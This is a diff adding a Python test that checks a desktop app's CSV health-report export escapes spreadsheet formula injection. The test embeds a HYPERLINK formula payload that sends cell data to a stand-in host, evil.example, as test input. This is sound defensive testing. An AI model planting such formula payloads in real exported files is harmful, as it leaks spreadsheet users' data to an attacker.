@@ -340,3 +340,20 @@ def _close_windows() -> Iterator[None]:
     for widget in QApplication.topLevelWidgets():
         if isinstance(widget, FixConfirmDialog):
             widget.close()
+
+
+def test_the_csv_export_shows_formulas_in_server_keys_as_text(tmp_path: Path) -> None:
+    """A key (or a message quoting it) a spreadsheet would run as a formula starts with an
+    apostrophe in the CSV, as the share links' CSV does (one function: safe_text.csv_cell)."""
+    from ensure_browser.core.health.report import Finding
+    from ensure_browser.ui.health.view import write_csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    finding = Finding("warning", "orphan_object", "object", "docs", hostile, "@SUM(1+1)\nline two", size=3)
+    path = tmp_path / "f.csv"
+    write_csv(path, [finding])
+    with open(path, newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["key"] == "'" + hostile
+    assert row["message"] == "'@SUM(1+1)\\nline two"
+    assert row["size"] == "3" and row["age_seconds"] == "" and row["bucket"] == "docs"
